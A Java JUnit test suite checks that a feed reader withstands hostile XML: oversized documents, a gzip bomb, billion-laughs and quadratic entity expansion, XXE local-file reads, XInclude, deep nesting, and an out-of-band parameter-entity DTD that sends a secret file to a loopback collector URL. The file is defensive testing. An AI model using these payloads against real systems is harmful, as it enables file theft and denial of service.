package dev.gleaner.parse;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gleaner.fetch.FaultAnswers;
import dev.gleaner.fetch.FaultServer;
import dev.gleaner.fetch.FetchException;
import dev.gleaner.fetch.FetchOutcome;
import dev.gleaner.fetch.FetchRequest;
import dev.gleaner.fetch.FetchSettings;
import dev.gleaner.fetch.Fetcher;
import dev.gleaner.model.Feed;
import dev.gleaner.pipeline.FaultJvm;
import dev.gleaner.testing.RssDocument;
import dev.gleaner.testing.Workspace;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Hostile XML at full size over loopback to {@code gleaner run}: stopped in time and memory, leaking nothing. */
class HostileXmlAtScaleTest {
    /** How long one hostile case may take, from the start of the command to its end; also the fetch deadline. */
    private static final Duration BOUND = Duration.ofSeconds(10);
    /** A child JVM as a whole, its start included; killed past this. */
    private static final Duration CHILD_LIMIT = Duration.ofSeconds(60);
    /** The launcher's own options, with a heap far smaller than the documents. */
    private static final List<String> SMALL_HEAP = List.of("-Xmx64m", "-XX:+ExitOnOutOfMemoryError",
            "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1");
    /** The largest body a fetch accepts after decompression, as the command configures it. */
    private static final long CAP = FetchSettings.defaults(List.of()).maxBytes();
    private static final long HUGE = 200L << 20;
    private static final long BOMB = 10L << 30;
    private static final String PARENT = "敌意/文档/";
    private static final Pattern FAILURE_LINE = Pattern.compile("(?m)^gleaner: 敌意/文档/([^:]+): (.*)$");
    private static final Pattern PASS_TOOK = Pattern.compile("(?m)^(\\d+) feeds in (\\d+\\.\\d) s$");
    private static final Pattern GC_LINE = Pattern.compile("(\\d+)M->(\\d+)M\\((\\d+)M\\)");
    private static final Pattern ABOUT_DTD_OR_ENTITIES = Pattern.compile("(?i)doctype|dtd|entit");
    private static final Pattern ABOUT_NESTING = Pattern.compile("(?i)depth|deep|nest");
    /**
     * {@code gleaner run --all} without the site: the site is rendered from the store, which is
     * checked here, and leaving it out keeps the times those of fetching and parsing.
     */
    private static final String[] RUN = {"run", "--all", "--no-build"};

    @TempDir
    Path dir;

    /** Outside the workspace: the secret file and the child JVM's GC log. */
    @TempDir
    Path elsewhere;

    private final List<FaultServer> servers = new ArrayList<>();

    /** One run first, so that the bound measures the hostile documents and not class loading. */
    @BeforeAll
    static void warmUp(@TempDir Path warmUp) throws IOException {
        Workspace workspace = new Workspace(warmUp);
        workspace.write("feed.xml", RssDocument.channel("warm-up", "https://example.org/")
                .item("warm-up", "<p>x</p>", "Mon, 01 Jan 2024 08:00:00 GMT", "https://example.org/1").xml());
        workspace.config("a:\n  b:\n    c: feed.xml\n");
        assertThat(workspace.run(RUN).exitCode()).isZero();
        try (FaultServer server = FaultServer.start(FaultAnswers.feed("x"));
                Fetcher fetcher = new Fetcher(FetchSettings.defaults(List.of()).withAllowed(List.of("127.0.0.1")))) {
            fetcher.fetch(FetchRequest.of(server.url("/")));
        } catch (FetchException e) {
            throw new AssertionError(e);
        }
    }

    @AfterEach
    void stopServers() {
        servers.forEach(FaultServer::close);
    }

    private FaultServer serve(FaultServer.Answer answer) throws IOException {
        FaultServer server = FaultServer.start(answer);
        servers.add(server);
        return server;
    }

    @Nested
    class A200MebibyteDocument {
        private FaultAnswers.LargeDocument document;
        private FaultServer server;

        @BeforeEach
        void serveIt() throws IOException {
            document = FaultAnswers.largeDocument(HUGE);
            server = serve(document);
        }

        @Test
        void isWellFormedAndOfExactlyItsSizeWhenSmallEnoughToRead() throws Exception {
            FaultAnswers.LargeDocument small = FaultAnswers.largeDocument(1L << 20);

            Feed feed = fetchAndParse(serve(small).url("/small.xml"), 1L << 20);

            assertThat(feed.bozo()).as("%s", feed.problems()).isFalse();
            assertThat((long) feed.entries().size()).isEqualTo(small.itemCount()).isGreaterThan(900);
        }

        @Test
        void isCutOffByTheFetchersSizeCapWithinTheBound() {
            Timed<FetchException> cut = fetchFailure(server.url("/huge.xml"));

            report("200 MiB document, fetcher", cut.elapsed(), document.bodyBytesSent(), document.size());
            assertThat(cut.value().reason()).isEqualTo("body larger than " + CAP + " bytes");
            assertThat(cut.elapsed()).isLessThan(BOUND);
            assertCutOff(document.bodyBytesSent(), document.size());
        }

        @Test
        void failsOnlyItsOwnFeedInARunWithinTheBound() throws Exception {
            Workspace workspace = workspace(Map.of("huge", server.url("/huge.xml")));

            Timed<Workspace.Result> run = timed(() -> workspace.run(RUN));

            report("200 MiB document, gleaner run", run.elapsed(), document.bodyBytesSent(), document.size());
            assertRun(workspace, run.value().exitCode(), run.value().out(), run.value().err(), "huge");
            assertThat(run.elapsed()).isLessThan(BOUND);
            assertCutOff(document.bodyBytesSent(), document.size());
            assertThat(sizeOf(dir)).as("bytes kept in the workspace").isLessThan(CAP / 4);
        }

        @Test
        void staysWithinA64MebibyteHeap() throws Exception {
            Workspace workspace = workspace(Map.of("huge", server.url("/huge.xml")));

            FaultJvm.Result run = gleanerInSmallHeap();

            assertChildRun(workspace, run, "huge");
            assertCutOff(document.bodyBytesSent(), document.size());
        }
    }

    @Nested
    class A10GibibyteGzipBomb {
        private FaultAnswers.GzipBomb bomb;
        private FaultServer server;

        @BeforeEach
        void serveIt() throws IOException {
            bomb = FaultAnswers.gzipBomb(BOMB);
            server = serve(bomb);
        }

        @Test
        void inflatesToAWellFormedFeedOfExactlyItsSizeWhenSmallEnoughToRead() throws Exception {
            FaultAnswers.GzipBomb small = FaultAnswers.gzipBomb(1L << 20);

            Feed feed = fetchAndParse(serve(small).url("/small.xml"), 1L << 20);

            assertThat(feed.bozo()).as("%s", feed.problems()).isFalse();
            assertThat(feed.entries()).singleElement().satisfies(entry -> assertThat(entry.title()).isEqualTo("bomb"));
        }

        @Test
        void isSmallerOnTheWireThanTheCapSoOnlyTheInflatedSizeCanStopIt() throws IOException {
            long sample = 64L << 20;
            long compressed = compressedSizeOfFiller(sample);
            long wholeBombOnTheWire = BOMB / sample * compressed;

            System.out.printf("10 GiB gzip bomb: %d bytes compressed per %d MiB inflated, about %d bytes on the wire%n",
                    compressed, sample >> 20, wholeBombOnTheWire);
            assertThat(wholeBombOnTheWire).isLessThan(CAP);
        }

        @Test
        void isCutOffByTheInflatedSizeCapWithinTheBound() {
            Timed<FetchException> cut = fetchFailure(server.url("/bomb.xml"));

            report("10 GiB gzip bomb, fetcher", cut.elapsed(), bomb.inflatedBytesSent(), bomb.inflatedSize());
            System.out.printf("  compressed bytes sent: %d%n", server.bytesSent());
            assertThat(cut.value().reason()).isEqualTo("body larger than " + CAP + " bytes");
            assertThat(cut.elapsed()).isLessThan(BOUND);
            assertCutOff(bomb.inflatedBytesSent(), bomb.inflatedSize());
        }

        @Test
        void failsOnlyItsOwnFeedInARunWithinTheBound() throws Exception {
            Workspace workspace = workspace(Map.of("bomb", server.url("/bomb.xml")));

            Timed<Workspace.Result> run = timed(() -> workspace.run(RUN));

            report("10 GiB gzip bomb, gleaner run", run.elapsed(), bomb.inflatedBytesSent(), bomb.inflatedSize());
            assertRun(workspace, run.value().exitCode(), run.value().out(), run.value().err(), "bomb");
            assertThat(run.elapsed()).isLessThan(BOUND);
            assertCutOff(bomb.inflatedBytesSent(), bomb.inflatedSize());
            assertThat(sizeOf(dir)).as("bytes kept in the workspace").isLessThan(CAP / 4);
        }

        @Test
        void staysWithinA64MebibyteHeap() throws Exception {
            Workspace workspace = workspace(Map.of("bomb", server.url("/bomb.xml")));

            FaultJvm.Result run = gleanerInSmallHeap();

            assertChildRun(workspace, run, "bomb");
            assertCutOff(bomb.inflatedBytesSent(), bomb.inflatedSize());
        }

        private static long compressedSizeOfFiller(long inflated) throws IOException {
            long[] count = new long[1];
            OutputStream counter = new OutputStream() {
                @Override
                public void write(int b) {
                    count[0]++;
                }

                @Override
                public void write(byte[] b, int off, int len) {
                    count[0] += len;
                }
            };
            byte[] filler = new byte[1 << 20];
            Arrays.fill(filler, (byte) 'a');
            try (GZIPOutputStream gzip = new GZIPOutputStream(counter, 8192)) {
                for (long written = 0; written < inflated; written += filler.length) {
                    gzip.write(filler);
                }
            }
            return count[0];
        }
    }

    @Nested
    class HeavyCasesTogether {
        @Test
        void bothInOneRunStayWithinA64MebibyteHeap() throws Exception {
            FaultAnswers.LargeDocument document = FaultAnswers.largeDocument(HUGE);
            FaultAnswers.GzipBomb bomb = FaultAnswers.gzipBomb(BOMB);
            Map<String, String> hostile = new LinkedHashMap<>();
            hostile.put("huge", serve(document).url("/huge.xml"));
            hostile.put("bomb", serve(bomb).url("/bomb.xml"));
            Workspace workspace = workspace(hostile);

            FaultJvm.Result run = gleanerInSmallHeap();

            assertChildRun(workspace, run, "huge", "bomb");
            assertCutOff(document.bodyBytesSent(), document.size());
            assertCutOff(bomb.inflatedBytesSent(), bomb.inflatedSize());
        }
    }

    /** The attacks of the XML specification itself, each a small document. */
    enum Attack {
        /** Ten levels of ten references: 10^9 copies of "lol" (3 GB) if expanded. */
        BILLION_LAUGHS("billion-laughs", ABOUT_DTD_OR_ENTITIES) {
            @Override
            String document(Hostile hostile) {
                StringBuilder dtd = new StringBuilder("<!DOCTYPE rss [\n  <!ENTITY lol0 \"lol\">\n");
                for (int level = 1; level <= 9; level++) {
                    dtd.append("  <!ENTITY lol").append(level).append(" \"")
                            .append(("&lol" + (level - 1) + ";").repeat(10)).append("\">\n");
                }
                return XmlAttackTest.rss(dtd.append("]>").toString(), "&lol9;", "&lol9;");
            }
        },
        /** One 100 KB entity referenced 10,000 times: 1 GB of text from a 150 KB document. */
        QUADRATIC_BLOWUP("quadratic", ABOUT_DTD_OR_ENTITIES) {
            @Override
            String document(Hostile hostile) {
                return XmlAttackTest.rss("<!DOCTYPE rss [<!ENTITY big \"" + "a".repeat(100_000) + "\">]>", "quadratic",
                        "&big;".repeat(10_000));
            }
        },
        EXTERNAL_ENTITY_READING_A_LOCAL_FILE("file-entity", ABOUT_DTD_OR_ENTITIES) {
            @Override
            String document(Hostile hostile) {
                return XmlAttackTest.rss("<!DOCTYPE rss [<!ENTITY secret SYSTEM \"" + hostile.secretFile().toUri() + "\">]>",
                        "&secret;", "before &secret; after");
            }
        },
        EXTERNAL_DTD_OVER_HTTP("external-dtd", ABOUT_DTD_OR_ENTITIES) {
            @Override
            String document(Hostile hostile) {
                return XmlAttackTest.rss("<!DOCTYPE rss SYSTEM \"" + hostile.recording().url("/evil.dtd") + "\">", "&injected;",
                        "<p>x</p>");
            }
        },
        /**
         * The out-of-band exfiltration: a parameter entity loads a DTD from the server, which
         * declares another that sends the local file's contents back to the server in a URL.
         */
        PARAMETER_ENTITIES_OVER_HTTP("parameter-entities", ABOUT_DTD_OR_ENTITIES) {
            @Override
            String document(Hostile hostile) {
                return XmlAttackTest.rss("""
                        <!DOCTYPE rss [
                          <!ENTITY % secret SYSTEM "SECRET">
                          <!ENTITY % remote SYSTEM "REMOTE">
                          %remote;
                          %send;
                        ]>""".replace("SECRET", hostile.secretFile().toUri().toString())
                        .replace("REMOTE", hostile.recording().url("/exfiltrate.dtd")),
                        "parameter entities", "<p>x</p>");
            }
        },
        EXTERNAL_ENTITY_OVER_HTTP("remote-entity", ABOUT_DTD_OR_ENTITIES) {
            @Override
            String document(Hostile hostile) {
                String entity = hostile.recording().url("/entity.txt");
                return XmlAttackTest.rss("<!DOCTYPE rss [<!ENTITY remote SYSTEM \"" + entity + "\">]>", "&remote;",
                        "before &remote; after");
            }
        },
        XINCLUDE_OF_A_LOCAL_FILE("xinclude", ABOUT_DTD_OR_ENTITIES) {
            @Override
            String document(Hostile hostile) {
                return XmlAttackTest.rss("", "xinclude", "<p>x</p>").replace("<item>",
                        "<item><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
                                + hostile.secretFile().toUri() + "\"/>");
            }
        },
        /** An item holding 100,000 nested elements. */
        DEEP_NESTING("deep-nesting", ABOUT_NESTING) {
            @Override
            String document(Hostile hostile) {
                return XmlAttackTest.rss("", "deep", "<p>x</p>")
                        .replace("</item>", "<deep>".repeat(100_000) + "</deep>".repeat(100_000) + "</item>");
            }
        };

        final String leaf;
        final Pattern refusal;

        Attack(String leaf, Pattern refusal) {
            this.leaf = leaf;
            this.refusal = refusal;
        }

        abstract String document(Hostile hostile);
    }

    /**
     * What an attack may reach for: a local file holding a secret, and a server that records every
     * connection and would answer with text that must never show up anywhere.
     */
    record Hostile(Path secretFile, String secret, FaultServer recording, String injected) {
    }

    @Nested
    class EntityDtdAndNestingAttacks {
        private Hostile hostile;

        @BeforeEach
        void prepare() throws IOException {
            String secret = "SECRET-" + UUID.randomUUID();
            String injected = "INJECTED-" + UUID.randomUUID();
            Path secretFile = Files.writeString(elsewhere.resolve("secret.txt"), secret + "\n");
            FaultServer recording = serve(exchange -> {
                String collect = "http://127.0.0.1:" + exchange.socket().getLocalPort() + "/collect?d=%secret;";
                String dtd = "<!ENTITY injected \"" + injected + "\">\n"
                        + "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" + collect + "'>\">\n%wrap;\n";
                byte[] body = (exchange.path().endsWith(".txt") ? injected : dtd).getBytes(UTF_8);
                exchange.head(200, "Content-Type: application/xml-dtd", "Content-Length: " + body.length);
                exchange.out().write(body);
            });
            hostile = new Hostile(secretFile, secret, recording, injected);
        }

        @ParameterizedTest
        @EnumSource(Attack.class)
        void isRefusedOrLeftUnexpandedInARunLeakingNothingAndAskingNoServer(Attack attack) throws Exception {
            String document = attack.document(hostile);
            FaultServer server = serve(FaultAnswers.feed(document));
            Workspace workspace = workspace(Map.of(attack.leaf, server.url("/hostile.xml")));

            Timed<Workspace.Result> run = timed(() -> workspace.run(RUN));

            Workspace.Result result = run.value();
            Optional<String> refused = Optional.ofNullable(failureLines(result.err()).get(attack.leaf));
            System.out.printf("%s (%d bytes), gleaner run: %s in %d ms%n", attack, document.length(),
                    refused.map(reason -> "refused: " + reason).orElse("parsed"), run.elapsed().toMillis());
            assertThat(result.exitCode()).as(result.err()).isZero();
            assertThat(run.elapsed()).isLessThan(BOUND);
            assertThat(postsOf(workspace, "well-1")).hasSize(1);
            assertThat(postsOf(workspace, "well-2")).hasSize(1);
            if (refused.isPresent()) {
                assertThat(refused.get()).containsPattern(attack.refusal).hasSizeLessThan(500);
                assertThat(postsOf(workspace, attack.leaf)).isEmpty();
            } else {
                assertThat(sizeOf(workspace.posts().resolve(PARENT + attack.leaf)))
                        .as("the posts of a document parsed without expanding anything")
                        .isLessThan(document.length() + 2_000L);
            }
            assertNothingLeaked(workspace, result.out() + result.err(), hostile);
            assertNoConnectionReached(hostile.recording());
        }

        @Test
        void allAtOnceStayWithinA64MebibyteHeapLeakingNothing() throws Exception {
            Map<String, String> hostileFeeds = new LinkedHashMap<>();
            for (Attack attack : Attack.values()) {
                hostileFeeds.put(attack.leaf, serve(FaultAnswers.feed(attack.document(hostile))).url("/hostile.xml"));
            }
            Workspace workspace = workspace(hostileFeeds);

            FaultJvm.Result run = gleanerInSmallHeap();

            report("entity, DTD and nesting attacks together", run);
            assertThat(run.finished()).as("%s", run).isTrue();
            assertThat(run.exitCode()).as("exit status (3: out of memory)\n%s", run).isZero();
            assertThat(passTook(run.out())).as("%s", run).isLessThan(BOUND);
            assertThat(postsOf(workspace, "well-1")).hasSize(1);
            Map<String, String> refused = failureLines(run.err());
            for (Attack attack : Attack.values()) {
                if (refused.containsKey(attack.leaf)) {
                    assertThat(refused.get(attack.leaf)).as("%s", attack).containsPattern(attack.refusal);
                }
            }
            assertNothingLeaked(workspace, run.out() + run.err(), hostile);
            assertNoConnectionReached(hostile.recording());
        }
    }

    // ---------------------------------------------------------------------------------------------
    // Runs

    /** A value and how long it took to get. */
    record Timed<T>(T value, Duration elapsed) {
    }

    @FunctionalInterface
    interface Work<T> {
        T call() throws Exception;
    }

    private static <T> Timed<T> timed(Work<T> work) throws Exception {
        long start = System.nanoTime();
        T value = work.call();
        return new Timed<>(value, Duration.ofNanos(System.nanoTime() - start));
    }

    /** Fetches {@code url} with the command's own fetch settings (loopback allowed, deadline {@link #BOUND}). */
    private static Timed<FetchException> fetchFailure(String url) {
        FetchSettings settings = FetchSettings.defaults(List.of()).withTimeout(BOUND)
                .withAllowed(List.of("127.0.0.1"));
        try (Fetcher fetcher = new Fetcher(settings)) {
            long start = System.nanoTime();
            try {
                fetcher.fetch(FetchRequest.of(url));
            } catch (FetchException e) {
                return new Timed<>(e, Duration.ofNanos(System.nanoTime() - start));
            }
        }
        throw new AssertionError("the fetch of " + url + " succeeded");
    }

    /** Fetches {@code url} as the command does, checks the body is {@code size} bytes, and parses it. */
    private static Feed fetchAndParse(String url, long size) throws Exception {
        FetchSettings settings = FetchSettings.defaults(List.of()).withTimeout(BOUND)
                .withAllowed(List.of("127.0.0.1"));
        try (Fetcher fetcher = new Fetcher(settings)) {
            FetchOutcome.Fetched fetched = (FetchOutcome.Fetched) fetcher.fetch(FetchRequest.of(url));
            assertThat((long) fetched.body().length).isEqualTo(size);
            return FeedParser.standard().parse(new FeedDocument(url, fetched.body(), fetched.charset()));
        }
    }

    /**
     * A workspace whose subscriptions are these hostile feeds and two healthy ones, each on a
     * server of its own, with the deadline {@link #BOUND}.
     */
    private Workspace workspace(Map<String, String> hostileFeeds) throws IOException {
        Map<String, String> all = new LinkedHashMap<>(hostileFeeds);
        for (String leaf : List.of("well-1", "well-2")) {
            all.put(leaf, serve(FaultAnswers.feed(RssDocument.channel(leaf, "https://example.org/" + leaf)
                    .item(leaf + " 的第一条", "<p>" + leaf + "</p>", "Mon, 01 Jan 2024 08:00:00 GMT",
                            "https://example.org/" + leaf + "/1")
                    .xml())).url("/feed.xml"));
        }
        Workspace workspace = new Workspace(dir);
        String leaves = all.entrySet().stream().map(e -> "    " + e.getKey() + ": " + e.getValue() + "\n")
                .collect(Collectors.joining());
        workspace.loopbackConfig(BOUND, "敌意:\n  文档:\n" + leaves);
        return workspace;
    }

    /** {@code gleaner run --all} on the workspace, in a JVM of its own with a 64 MiB heap, logging its collections. */
    private FaultJvm.Result gleanerInSmallHeap() throws IOException, InterruptedException {
        // a JVM of its own, since a heap cannot be bounded for one command inside the test's JVM
        List<String> options = new ArrayList<>(SMALL_HEAP);
        options.add("-Xlog:gc:file=" + elsewhere.resolve("gc.log"));
        return FaultJvm.gleaner(dir, options, CHILD_LIMIT, RUN);
    }

    // ---------------------------------------------------------------------------------------------
    // Checks

    /** The run went on past the hostile feeds: it exited 0, each failed at the size cap, the others were written. */
    private static void assertRun(Workspace workspace, int exitCode, String out, String err, String... hostileLeaves)
            throws IOException {
        assertThat(exitCode).as(err).isZero();
        Map<String, String> reasons = failureLines(err);
        assertThat(reasons).as(err).containsOnlyKeys(hostileLeaves);
        for (String leaf : hostileLeaves) {
            assertThat(reasons.get(leaf)).isEqualTo("body larger than " + CAP + " bytes");
            assertThat(postsOf(workspace, leaf)).isEmpty();
        }
        assertThat(postsOf(workspace, "well-1")).as(out).hasSize(1);
        assertThat(postsOf(workspace, "well-2")).as(out).hasSize(1);
        assertThat(passTook(out)).isLessThan(BOUND);
    }

    private void assertChildRun(Workspace workspace, FaultJvm.Result run, String... hostileLeaves) throws IOException {
        report(String.join(" and ", hostileLeaves) + " in a 64 MiB heap", run);
        assertThat(run.finished()).as("%s", run).isTrue();
        assertThat(run.exitCode()).as("exit status (3: out of memory)\n%s", run).isZero();
        assertRun(workspace, run.exitCode(), run.out(), run.err(), hostileLeaves);
    }

    /** The server was stopped well before the end: the client read to its cap and hung up. */
    private static void assertCutOff(long sent, long whole) {
        assertThat(sent).as("bytes sent before the client hung up, of %d", whole).isLessThan(whole / 4);
    }

    /** Neither the secret nor what the recording server would answer is in the workspace or the output. */
    private static void assertNothingLeaked(Workspace workspace, String output, Hostile hostile) throws IOException {
        assertThat(output).doesNotContain(hostile.secret()).doesNotContain(hostile.injected());
        try (Stream<Path> files = Files.walk(workspace.root())) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                // ISO-8859-1 maps each byte to one char, so an ASCII marker is found in any file
                String bytes = new String(Files.readAllBytes(file), ISO_8859_1);
                assertThat(bytes).as("%s", file).doesNotContain(hostile.secret()).doesNotContain(hostile.injected())
                        .doesNotContain("lollollol").doesNotContain("a".repeat(100_001));
            }
        }
    }

    /** Nothing connected to the server; and it was there to be reached, as a direct request afterwards shows. */
    private static void assertNoConnectionReached(FaultServer server) throws IOException, InterruptedException {
        assertThat(server.connections()).as("connections to the recording server").isZero();
        HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
        HttpResponse<String> response = client.send(HttpRequest.newBuilder(URI.create(server.url("/probe.dtd")))
                .timeout(Duration.ofSeconds(2)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(server.connections()).as("connections after a direct request").isEqualTo(1);
    }

    // ---------------------------------------------------------------------------------------------
    // Reading what a run left

    private static List<Path> postsOf(Workspace workspace, String leaf) throws IOException {
        Path folder = workspace.posts().resolve(PARENT + leaf);
        if (!Files.isDirectory(folder)) {
            return List.of();
        }
        try (Stream<Path> files = Files.list(folder)) {
            return files.filter(file -> file.toString().endsWith(".md")).toList();
        }
    }

    private static long sizeOf(Path folder) throws IOException {
        if (!Files.exists(folder)) {
            return 0;
        }
        try (Stream<Path> files = Files.walk(folder)) {
            long total = 0;
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                total += Files.size(file);
            }
            return total;
        }
    }

    private static Map<String, String> failureLines(String err) {
        Map<String, String> reasons = new LinkedHashMap<>();
        Matcher line = FAILURE_LINE.matcher(err);
        while (line.find()) {
            reasons.put(line.group(1), line.group(2));
        }
        return reasons;
    }

    private static Duration passTook(String out) {
        Matcher took = PASS_TOOK.matcher(out);
        assertThat(took.find()).as("a summary in\n%s", out).isTrue();
        return Duration.ofMillis(Math.round(Double.parseDouble(took.group(2)) * 1000));
    }

    /** The most the child's heap held, just before a collection, from its GC log. */
    private Optional<Long> peakHeapMebibytes() throws IOException {
        Path log = elsewhere.resolve("gc.log");
        if (!Files.exists(log)) {
            return Optional.empty();
        }
        Matcher gc = GC_LINE.matcher(Files.readString(log));
        long peak = -1;
        while (gc.find()) {
            peak = Math.max(peak, Long.parseLong(gc.group(1)));
        }
        return peak < 0 ? Optional.empty() : Optional.of(peak);
    }

    private static void report(String what, Duration elapsed, long sent, long whole) {
        System.out.printf("%s: cut off after %d ms, %d of %d bytes sent (%.2f%%)%n", what, elapsed.toMillis(), sent,
                whole, 100.0 * sent / whole);
    }

    private void report(String what, FaultJvm.Result run) throws IOException {
        System.out.printf("%s: exit %d, command %d ms, pass %s, peak heap before a collection %s MiB%n", what,
                run.exitCode(), run.elapsed().toMillis(), PASS_TOOK.matcher(run.out()).results()
                        .map(m -> m.group(2) + " s").findFirst().orElse("?"),
                peakHeapMebibytes().map(String::valueOf).orElse("?"));
    }
}
